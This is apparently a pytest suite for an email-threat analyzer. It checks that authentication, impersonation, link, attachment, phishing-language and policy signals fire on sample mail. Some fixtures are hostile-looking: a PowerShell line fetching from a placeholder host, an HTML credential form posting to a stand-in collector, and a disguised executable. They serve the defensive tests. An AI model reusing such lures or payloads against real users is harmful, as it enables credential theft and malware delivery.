"""Each signal fires on real mail that carries it (shared corpus or samples/), and stays quiet otherwise."""

from __future__ import annotations

import io
import zipfile

import pytest
from swordfish.analysis import EXPERIMENTAL_DETECTORS, TenantPolicy, VerdictKind, analyze, parse_message
from swordfish.analysis.weights import CATALOG, model

from .helpers import SA, SAMPLES, SUBLIME, build, mail

SUBLIME_POLICY = TenantPolicy(domains=["sublimesecurity.com"], vip_names=["Joshua Kamdjou", "Ian Thiel"])
DEMO_POLICY = TenantPolicy(domains=["example.com"], vip_names=["Dana Whitfield"])


def names(verdict) -> set[str]:
    return {r.name for r in verdict.reasons}


def reason(verdict, name):
    return next(r for r in verdict.reasons if r.name == name)


# --- authentication -------------------------------------------------------------------------------


def test_dmarc_fail_and_spf_softfail_are_read_from_authentication_results():
    v = analyze(mail(SAMPLES / "swordfish" / "m365-password-expiry-phish.eml"))
    # the receiver reported no policy: a failure, weighed as one under p=none (issue 23)
    assert {"DMARC_FAIL_POLICY_NONE", "SPF_SOFTFAIL", "DKIM_NONE"} <= names(v)
    assert "header.from=micros0ft-support.com" in reason(v, "DMARC_FAIL_POLICY_NONE").evidence


def test_received_spf_fail_is_used_when_no_authentication_results_states_spf():
    v = analyze(mail(SA / "nice" / "spf3-received-spf"))
    assert reason(v, "SPF_FAIL").evidence.startswith("Received-SPF: fail")
    assert v.verdict == VerdictKind.CLEAN  # one SPF failure alone does not condemn a message


def test_topmost_authentication_result_per_method_wins():
    # authres has spf=pass in its first header and spf=fail in later, older ones
    v = analyze(mail(SA / "nice" / "authres"))
    assert "SPF_FAIL" not in names(v)
    assert "DMARC_NONE" in names(v)


def test_trusted_authserv_ids_select_which_headers_count():
    policy = TenantPolicy(trusted_authserv_ids=["authrestest3int"])
    v = analyze(mail(SA / "nice" / "authres"), policy)
    assert "SPF_FAIL" in names(v)
    assert "DMARC_NONE" not in names(v)


def test_dkim_fail_from_real_phish():
    v = analyze(mail(SUBLIME / "amazon_phish_url_shortener.eml"))
    assert "dkim=fail" in reason(v, "DKIM_FAIL").evidence


def test_own_domain_failing_authentication_is_spoofing():
    raw = build(sender="CEO <ceo@example.com>",
                headers={"Authentication-Results": "mx.example.com; spf=fail smtp.mailfrom=example.com; "
                                                   "dmarc=fail (p=REJECT sp=REJECT dis=REJECT) header.from=example.com"})
    v = analyze(raw, DEMO_POLICY)
    assert {"OWN_DOMAIN_SPOOF", "DMARC_FAIL", "SPF_FAIL"} <= names(v)
    assert v.verdict == VerdictKind.PHISHING


# --- impersonation --------------------------------------------------------------------------------


def test_vip_display_name_from_outside_domain_is_impersonation():
    v = analyze(mail(SUBLIME / "bec_ceo_impersonation.eml"), SUBLIME_POLICY)
    assert "Joshua Kamdjou" in reason(v, "VIP_IMPERSONATION").evidence
    assert "BEC_PAYMENT_LANGUAGE" in names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_vip_name_is_not_impersonation_without_that_vip_in_policy():
    v = analyze(mail(SUBLIME / "bec_ceo_impersonation.eml"))
    assert "VIP_IMPERSONATION" not in names(v)


def test_vip_writing_from_the_tenant_domain_is_not_impersonation():
    raw = build(sender='"Dana Whitfield" <dana@example.com>', body="Notes from today attached.\n")
    assert "VIP_IMPERSONATION" not in names(analyze(raw, DEMO_POLICY))


def test_brand_display_name_from_freemail_is_brand_impersonation():
    v = analyze(mail(SUBLIME / "amazon_phish_url_shortener.eml"))
    assert "gmail.com" in reason(v, "BRAND_IMPERSONATION").evidence
    assert "URL_SHORTENER" in names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_brand_display_name_from_the_brand_domain_is_fine():
    raw = build(sender='"Amazon" <shipment-tracking@amazon.com>', body="Your parcel is on its way.\n")
    assert "BRAND_IMPERSONATION" not in names(analyze(raw))


def test_brand_embedded_in_sender_domain_is_lookalike():
    v = analyze(mail(SUBLIME / "fedex_brand_impersonation.eml"))
    assert "deliver-fedex.com imitates fedex (embedded)" in reason(v, "LOOKALIKE_DOMAIN").evidence
    assert "BRAND_IMPERSONATION" in names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_punycode_sender_domain_is_lookalike():
    v = analyze(mail(SUBLIME / "punycode_robinhood.eml"))
    evidence = reason(v, "LOOKALIKE_DOMAIN").evidence
    assert "robínhood.com" in evidence and "punycode" in evidence


def test_cyrillic_confusable_link_domain_is_lookalike():
    # "pаypal" with a Cyrillic а (U+0430), as an IDN link
    raw = build(html='<p>Review your account: <a href="https://xn--pypal-4ve.com/login">sign in</a></p>',
                subject="PayPal: review your account")
    v = analyze(raw)
    assert "imitates paypal" in reason(v, "LOOKALIKE_DOMAIN").evidence


def test_typo_of_tenant_domain_is_lookalike():
    v = analyze(mail(SAMPLES / "swordfish" / "vendor-bank-change-lookalike.eml"), DEMO_POLICY)
    # the tenant's own domain imitated: a signal of its own, which a public corpus cannot weigh (its prior)
    assert "exarnple.com imitates example.com" in reason(v, "TENANT_LOOKALIKE_DOMAIN").evidence
    assert reason(v, "TENANT_LOOKALIKE_DOMAIN").weight == CATALOG["TENANT_LOOKALIKE_DOMAIN"].prior * 2
    assert "REPLYTO_FREEMAIL" in names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_display_name_showing_another_address_is_fromname_spoof():
    v = analyze(mail(SA / "spam" / "fromnamespoof" / "spoof1"))
    assert "test@example.com" in reason(v, "FROMNAME_SPOOF").evidence
    assert "Reply-To example.com" in reason(v, "REPLYTO_MISMATCH").evidence
    # alone it is weak evidence: fitted on list mail and 2002 mail, a display-name spoof with a differing
    # Reply-To stays under the suspicious threshold unless something else joins it
    assert reason(v, "FROMNAME_SPOOF").weight > 0


def test_freemail_reply_to_weighs_more_than_a_list_reply_to():
    to_freemail = analyze(build(sender="a@company-one.com", headers={"Reply-To": "x@gmail.com"}))
    to_list = analyze(build(sender="a@company-one.com", headers={"Reply-To": "list@lists.company-two.org"}))
    assert "REPLYTO_MISMATCH" not in names(to_freemail)
    # free-mail Reply-To is its own signal: the BEC pattern, weighed apart from list and vendor Reply-Tos
    assert "REPLYTO_FREEMAIL" not in names(to_list)
    assert reason(to_freemail, "REPLYTO_FREEMAIL").weight >= reason(to_list, "REPLYTO_MISMATCH").weight


# --- links ----------------------------------------------------------------------------------------


def _feed(path):
    urls = set()
    for line in path.read_text().splitlines():
        if line.startswith("http"):
            urls.add(line.strip())
        elif "," in line and "://" in line:
            urls.add(line.split(",")[1])
    return urls


def test_url_listed_in_openphish_feed_is_phishing():
    listed = _feed(SA / "phishing" / "openphish-feed.txt")
    seen: list[set[str]] = []

    def lookup(candidates: set[str]) -> dict[str, str]:
        seen.append(candidates)
        return {c: "openphish" for c in candidates if c in listed}

    v = analyze(mail(SA / "spam" / "phishing_openphish.eml"), indicator_hits_for=lookup)
    assert len(seen) == 1  # one round trip per message
    assert "ehawkerbd.com/wp/wp-admin/js/office365/auth.php (openphish)" in reason(v, "URL_IN_THREAT_FEED").evidence
    assert v.verdict == VerdictKind.PHISHING


def test_url_listed_in_phishtank_feed_matches_with_its_query_string():
    listed = _feed(SA / "phishing" / "phishtank-feed.csv")
    v = analyze(mail(SA / "spam" / "phishing_phishtank.eml"),
                indicator_hits_for=lambda c: {x: "phishtank" for x in c if x in listed})
    assert "URL_IN_THREAT_FEED" in names(v)


def test_urlhaus_hit_makes_malware():
    parsed = parse_message(mail(SA / "spam" / "phishing_openphish.eml"))
    from swordfish.analysis import score_message

    v = score_message(parsed, TenantPolicy(), {"ehawkerbd.com": "urlhaus"})
    assert v.verdict == VerdictKind.MALWARE


def test_indicator_candidates_hold_url_host_and_registered_domain():
    parsed = parse_message(mail(SA / "spam" / "phishing_phishtank.eml"))
    candidates = parsed.indicator_candidates()
    assert {"www.anatolialamps.com", "anatolialamps.com", "gmail.com"} <= candidates
    assert any(c.startswith("https://www.anatolialamps.com/wp-content/") for c in candidates)


def test_link_text_showing_another_domain_is_mismatch():
    v = analyze(mail(SUBLIME / "fedex_brand_impersonation.eml"))
    assert "text fedex.com -> google.com" in reason(v, "LINK_TEXT_MISMATCH").evidence


def test_link_text_matching_its_href_is_not_mismatch():
    raw = build(html='<a href="https://www.example.org/docs">www.example.org/docs</a>')
    assert "LINK_TEXT_MISMATCH" not in names(analyze(raw))


def test_ip_literal_urls_including_decimal_form_are_flagged():
    v = analyze(mail(SA / "spam" / "009"))
    assert "0x425c45de" in reason(v, "IP_URL").evidence or "1113343455" in reason(v, "IP_URL").evidence


def test_url_shortener_is_flagged():
    v = analyze(mail(SA / "spam" / "decodeshorturl" / "base.eml"))
    assert "bit.ly" in reason(v, "URL_SHORTENER").evidence


def test_free_file_host_is_flagged():
    v = analyze(mail(SUBLIME / "reported_phish.eml"), SUBLIME_POLICY)
    assert "docs.google.com" in reason(v, "FREE_FILE_HOST").evidence
    assert "VIP_IMPERSONATION" in names(v)


def test_obfuscated_urls_are_extracted():
    parsed = parse_message(build(body="Go to hxxps://evil-login[.]example-bad.com/portal now\n"))
    assert "https://evil-login.example-bad.com/portal" in {link.url for link in parsed.links}


# --- attachments ----------------------------------------------------------------------------------


def test_macro_office_file_by_extension_is_malware():
    v = analyze(mail(SA / "spam" / "olevbmacro" / "macro.eml"))
    assert "macro.xlsm" in reason(v, "MACRO_OFFICE").evidence
    assert v.verdict == VerdictKind.MALWARE


def test_macro_hidden_under_an_image_name_is_found_by_content():
    v = analyze(mail(SA / "spam" / "olevbmacro" / "renamedmacro.eml"))
    assert "renamed.jpg (VBA project inside)" in reason(v, "MACRO_OFFICE").evidence
    assert v.verdict == VerdictKind.MALWARE


def test_office_file_without_macro_and_plain_csv_are_clean():
    for name in ("nomacro.eml", "goodcsv.eml"):
        v = analyze(mail(SA / "spam" / "olevbmacro" / name))
        assert v.verdict == VerdictKind.CLEAN, (name, v.reasons)


def test_password_protected_zip_is_encrypted_archive():
    v = analyze(mail(SA / "spam" / "olevbmacro" / "zippwmacro.eml"))
    assert "macro.zip" in reason(v, "ENCRYPTED_ARCHIVE").evidence
    assert "macro.zip!macro.xlsm" in reason(v, "MACRO_OFFICE").evidence


def test_encrypted_office_document_is_encrypted_archive():
    v = analyze(mail(SA / "spam" / "olevbmacro" / "encrypted.eml"))
    assert "encrypted_word_doc.docx" in reason(v, "ENCRYPTED_ARCHIVE").evidence


def test_executable_with_double_extension_inside_zip():
    v = analyze(mail(SAMPLES / "swordfish" / "invoice-double-extension-zip.eml"))
    assert "Invoice_3321.zip!Invoice_3321.pdf.exe" in reason(v, "EXECUTABLE_ATTACHMENT").evidence
    assert "DOUBLE_EXTENSION" in names(v)
    assert v.verdict == VerdictKind.MALWARE


def test_executable_content_under_a_document_name_is_executable():
    raw = build(attachments=[("report.pdf", b"MZ\x90\x00" + b"\x00" * 60, "application/pdf")])
    v = analyze(raw)
    assert "report.pdf (content is application/x-msdownload)" in reason(v, "EXECUTABLE_ATTACHMENT").evidence


def _elf(e_type: int) -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + e_type.to_bytes(2, "little") + b"\x3e\x00" + b"\x00" * 40


def test_an_elf_executable_is_executable_and_a_compilers_object_file_is_not():
    """A developer's bug report attaches thunk_64.o (a relocatable object, e_type 1): it runs nowhere. An
    ELF executable or shared object under any name still counts."""
    program = analyze(build(attachments=[("update.bin", _elf(2), "application/octet-stream")]))
    assert "update.bin (content is application/x-elf)" in reason(program, "EXECUTABLE_ATTACHMENT").evidence
    obj = analyze(build(attachments=[("thunk_64.o", _elf(1), "application/octet-stream")]))
    assert "EXECUTABLE_ATTACHMENT" not in names(obj) and obj.verdict != VerdictKind.MALWARE


def test_a_shell_script_attached_to_a_list_post_is_not_malware():
    """Microsoft's common attachment filter leaves .sh alone: a script needs a terminal and chmod. A
    Windows script (.ps1, .bat, .vbs) is still executable."""
    script = analyze(build(attachments=[("pre.sh", b"#!/bin/sh\nip link add br0 type bridge\n", "application/x-sh")]))
    assert "EXECUTABLE_ATTACHMENT" not in names(script)
    ps1 = analyze(build(attachments=[("pre.ps1", b"Invoke-WebRequest http://x/y\n", "text/plain")]))
    assert "EXECUTABLE_ATTACHMENT" in names(ps1)


def test_right_to_left_override_filename_is_double_extension():
    raw = build(attachments=[("invoice\u202efdp.exe", b"MZ" + b"\x00" * 30, "application/octet-stream")])
    assert "right-to-left override" in reason(analyze(raw), "DOUBLE_EXTENSION").evidence


def test_html_attachment_that_assembles_a_download_is_smuggling():
    v = analyze(mail(SAMPLES / "swordfish" / "html-smuggling-remittance.eml"))
    assert "Remittance_Advice_4471.html" in reason(v, "HTML_SMUGGLING").evidence
    assert v.verdict == VerdictKind.MALWARE


def test_html_attachment_with_password_form_is_credential_form():
    page = b'<html><form action="https://collect.bad-host.net/p.php"><input type="password" name="pw"></form>'
    v = analyze(build(attachments=[("Secure_Message.htm", page, "text/html")]))
    assert "HTML_CREDENTIAL_FORM" in names(v)
    assert "https://collect.bad-host.net/p.php" in parse_message(
        build(attachments=[("Secure_Message.htm", page, "text/html")])).indicator_candidates()


def test_attachment_facts_are_recorded():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("notes.txt", "hello")
    parsed = parse_message(build(attachments=[("notes.zip", buf.getvalue(), "application/octet-stream")]))
    (att,) = parsed.attachments
    assert (att.filename, att.declared_type, att.sniffed_type) == ("notes.zip", "application/octet-stream",
                                                                   "application/zip")
    assert att.size == len(buf.getvalue()) and len(att.sha256) == 64 and att.members == ("notes.txt",)


# --- language -------------------------------------------------------------------------------------


def test_credential_phish_language_from_real_phish():
    v = analyze(mail(SUBLIME / "twitter_phish.eml"))
    assert reason(v, "CREDENTIAL_PHISH_LANGUAGE").weight > 0
    assert "abuse-twitter.com imitates twitter" in reason(v, "LOOKALIKE_DOMAIN").evidence
    assert v.verdict == VerdictKind.PHISHING


def test_bec_gift_card_request_from_freemail_vip():
    v = analyze(mail(SAMPLES / "swordfish" / "bec-gift-cards.eml"), DEMO_POLICY)
    assert "gift cards" in reason(v, "BEC_PAYMENT_LANGUAGE").evidence
    assert {"VIP_IMPERSONATION", "FREEMAIL_SENDER"} <= names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_ordinary_mention_of_invoice_and_payment_is_not_bec():
    v = analyze(mail(SAMPLES / "swordfish" / "clean-project-notes.eml"), DEMO_POLICY)
    assert v.verdict == VerdictKind.CLEAN and v.reasons == []


def test_gtube_is_spam():
    assert analyze(mail(SA / "spam" / "gtube.eml")).verdict == VerdictKind.SPAM


def test_spammy_content_is_flagged_as_spam_first():
    # about 4 points, near the spam threshold, so a refit can make it spam or suspicious
    # (tests/analysis/test_corpus.py pins the verdict); what it carries is spam evidence before phishing
    v = analyze(mail(SA / "spam" / "001"))
    assert "SPAM_LANGUAGE" in names(v)
    assert v.verdict != VerdictKind.CLEAN
    by_kind = {"spam": 0.0, "phishing": 0.0}
    for r in v.reasons:
        kind = CATALOG[r.name].category
        if kind in by_kind:
            by_kind[kind] += r.weight
    assert by_kind["spam"] > by_kind["phishing"]


# --- experimental ---------------------------------------------------------------------------------


# A 4x4 PNG: an image that holds no decodable code, so only the phrase-based detector can speak.
_NO_CODE_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000004000000040802000000269309290000000f494441"
                             "54789c6360f88f0489e3000061ee17e95809afec0000000049454e44ae426082")


def test_qr_code_lure_runs_only_when_enabled():
    raw = build(sender='"IT Helpdesk" <helpdesk@examp1e.com>',
                body="Your account will be locked. Scan the QR code below with your phone to re-enable MFA "
                     "within 24 hours.\n", attachments=[("mfa-qr.png", _NO_CODE_PNG, "image/png")])
    assert "QR_CODE_LURE" in EXPERIMENTAL_DETECTORS
    assert "QR_CODE_LURE" not in names(analyze(raw))
    enabled = analyze(raw, experimental=frozenset({"QR_CODE_LURE"}))
    assert reason(enabled, "QR_CODE_LURE").weight > 0
    assert enabled.verdict == VerdictKind.PHISHING


def test_qr_code_lure_ignores_messages_without_an_image():
    raw = build(body="Scan the QR code on the poster in the lobby to join the Wi-Fi.\n")
    assert "QR_CODE_LURE" not in names(analyze(raw, experimental=frozenset({"QR_CODE_LURE"})))


# --- policy lists ---------------------------------------------------------------------------------


def test_allow_list_lowers_the_score():
    raw = mail(SA / "spam" / "001")
    policy = TenantPolicy(allow_list=["@" + parse_message(raw).from_domain])
    before, after = analyze(raw), analyze(raw, policy)
    assert after.score == pytest.approx(before.score + policy.allow_weight)
    assert "ALLOWLISTED" in names(after) and after.verdict == VerdictKind.CLEAN


def test_allow_list_is_ignored_when_the_sender_fails_authentication():
    raw = mail(SAMPLES / "swordfish" / "m365-password-expiry-phish.eml")
    v = analyze(raw, TenantPolicy(allow_list=["micros0ft-support.com"]))
    assert "ALLOWLIST_IGNORED" in names(v) and "ALLOWLISTED" not in names(v)
    assert v.verdict == VerdictKind.PHISHING


def test_allow_list_does_not_hide_a_dangerous_attachment():
    raw = mail(SA / "spam" / "olevbmacro" / "macro.eml")
    assert analyze(raw, TenantPolicy(allow_list=["spammer@example.com"])).verdict == VerdictKind.MALWARE


def test_block_list_forces_its_verdict():
    raw = mail(SAMPLES / "swordfish" / "clean-project-notes.eml")
    v = analyze(raw, TenantPolicy(block_list=["priya.raman@example.com"], block_verdict="phishing"))
    assert v.verdict == VerdictKind.PHISHING and "BLOCKLISTED" in names(v)


def test_block_list_never_downgrades_malware():
    raw = mail(SAMPLES / "swordfish" / "invoice-double-extension-zip.eml")
    assert analyze(raw, TenantPolicy(block_list=["fast-invoices.biz"])).verdict == VerdictKind.MALWARE


def test_thresholds_come_from_the_policy():
    raw = mail(SA / "spam" / "fromnamespoof" / "spoof1")
    score = analyze(raw).score
    assert 0 < score < model().thresholds["phishing"]
    above = {kind: score + 0.5 for kind in ("suspicious", "phishing", "spam", "malware")}
    assert analyze(raw, TenantPolicy(thresholds=above)).verdict == VerdictKind.CLEAN
    assert analyze(raw, TenantPolicy(thresholds={**above, "suspicious": score})).verdict == VerdictKind.SUSPICIOUS
    strict = TenantPolicy(thresholds={"suspicious": 1.0, "phishing": score})
    assert analyze(raw, strict).verdict == VerdictKind.PHISHING


# The lures of the taken-over SourceForge lists in the development corpus: English webmail lures, and the
# Brazilian, Spanish, Japanese and Chinese ones (two thirds of its phishing).
@pytest.mark.parametrize(("subject", "body", "label"), [
    ("You have (6) Suspended incoming messages", "Release your pending messages below.", "held messages"),
    ("FINAL NOTIFICATION: Deactivation Notice", "Your mailbox will be deactivated today.", "deactivation notice"),
    ("Storage warning", "Your disk space is almost full, upgrade below.", "mailbox full"),
    ("Password Expiration Notice", "Keep your current password here.", "password notice"),
    ("Atualização cadastral", "Sua conta foi temporariamente bloqueada. Atualize seus dados no link.", "pt/es account lure"),
    ("Aviso", "Boleto em aberto: evite juros, pague hoje.", "pt/es payment lure"),
    ("Notificación", "Multa no pagada - bloqueo de vehiculos. Consulte el documento.", "pt/es payment lure"),
    ("【重要】", "お客様のアカウントを一時的に停止しました。ご利用確認をお願いします。", "ja account lure"),
    ("通知", "您的邮箱已满，请立即升级。", "zh mailbox lure"),
])
def test_mailbox_and_non_english_lures_are_credential_phish_language(subject, body, label):
    assert label in reason(analyze(build(subject=subject, body=body)), "CREDENTIAL_PHISH_LANGUAGE").evidence


def test_developers_talking_about_messages_and_passwords_is_not_credential_language():
    v = analyze(build(subject="Re: mail queue", body="The queue drained and no messages were lost. I rotated the "
                      "build password in the vault; the old account will be closed next week.\n"))
    assert "CREDENTIAL_PHISH_LANGUAGE" not in names(v)


def test_invisible_characters_do_not_hide_lure_words():
    subject = "P\u200dass\u200dword Expir\u200dation Not\u200dice"
    v = analyze(build(subject=subject, body="Your pass\u2064word will ex\u200bpire today.\n"))
    evidence = reason(v, "CREDENTIAL_PHISH_LANGUAGE").evidence
    assert "password notice" in evidence and "password expiry" in evidence
    plain = analyze(build(subject="Pass word notes", body="Passw ord ex pire.\n"))
    assert "CREDENTIAL_PHISH_LANGUAGE" not in names(plain)


@pytest.mark.parametrize(("subject", "body"), [
    ("Reunião", "Segue a ata da reunião; a conta do projeto foi aprovada e o boleto do fornecedor já foi pago.\n"),
    ("Factura", "Adjunto la factura de marzo, gracias por el pago.\n"),
    ("議事録", "本日の会議の議事録を共有します。アカウント管理の手順も確認しました。\n"),
])
def test_ordinary_non_english_business_mail_is_not_credential_language(subject, body):
    assert "CREDENTIAL_PHISH_LANGUAGE" not in names(analyze(build(subject=subject, body=body)))
